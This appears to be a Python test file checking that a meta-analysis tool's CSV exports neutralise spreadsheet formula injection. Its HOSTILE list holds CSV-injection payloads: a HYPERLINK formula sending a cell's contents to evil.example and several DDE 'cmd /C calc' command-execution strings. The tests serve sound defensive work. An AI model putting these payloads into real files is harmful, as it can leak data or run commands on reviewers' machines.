"""Cells that reviewers open in spreadsheets are never formulas (CSV injection)."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from livingmeta.csvsafe import cell, neutralise, restore
from livingmeta.extraction import read_table
from livingmeta.retrieval.candidate_export import write_candidates
from livingmeta.screening.csvfile import append_rows, read_existing

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
]


@given(st.text())
def test_restore_undoes_neutralise_for_every_string(text: str) -> None:
    assert restore(neutralise(text)) == text


@given(st.text())
def test_no_neutralised_cell_starts_a_formula(text: str) -> None:
    safe = neutralise(text)
    if safe.startswith(("=", "+", "-", "@", "\t", "\r")):  # only numbers keep their sign
        assert safe == text and float(text) == float(text)


def test_numbers_and_plain_text_are_written_as_they_are() -> None:
    assert [cell(v) for v in ("-0.5", "+3", "1e-3", "Wang 2023", None, True, ["a", "=b"])] == [
        "-0.5",
        "+3",
        "1e-3",
        "Wang 2023",
        "",
        "yes",
        "a; =b",  # a list cell starts with its first item
    ]
    assert [neutralise(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]


def test_screening_files_round_trip_hostile_titles(tmp_path: Path) -> None:
    path = tmp_path / "queue.csv"
    append_rows(
        path,
        ["record_id", "title"],
        [{"record_id": f"r{i}", "title": t} for i, t in enumerate(HOSTILE)],
    )
    with path.open(encoding="utf-8", newline="") as handle:
        raw = [row[1] for row in csv.reader(handle)][1:]
    assert all(value.startswith("'") for value in raw)  # what a spreadsheet sees
    _, _, rows = read_existing(path)
    assert [r["title"] for r in rows] == [t.strip() for t in HOSTILE]
    assert list(read_table(path)["title"]) == [t.strip() for t in HOSTILE]


def test_candidate_export_neutralises_titles(tmp_path: Path) -> None:
    from livingmeta.retrieval.candidate_export import COLUMNS

    row = {column: None for column in COLUMNS}
    row.update(title=HOSTILE[0], authors=["=evil()", "Smith J"])
    write_candidates([row], tmp_path / "candidates.csv")
    with (tmp_path / "candidates.csv").open(encoding="utf-8", newline="") as handle:
        (written,) = list(csv.DictReader(handle))
    assert written["title"] == "'" + HOSTILE[0]
    assert written["authors"] == "'=evil(); Smith J"


def test_a_title_longer_than_the_csv_modules_limit_is_read_whole(tmp_path: Path) -> None:
    title = "A" * 200_000
    path = tmp_path / "queue.csv"
    append_rows(path, ["record_id", "title"], [{"record_id": "r1", "title": title}])
    _, _, rows = read_existing(path)
    assert rows[0]["title"] == title
    with path.open(encoding="utf-8", newline="") as handle:
        assert next(csv.DictReader(handle))["title"] == title
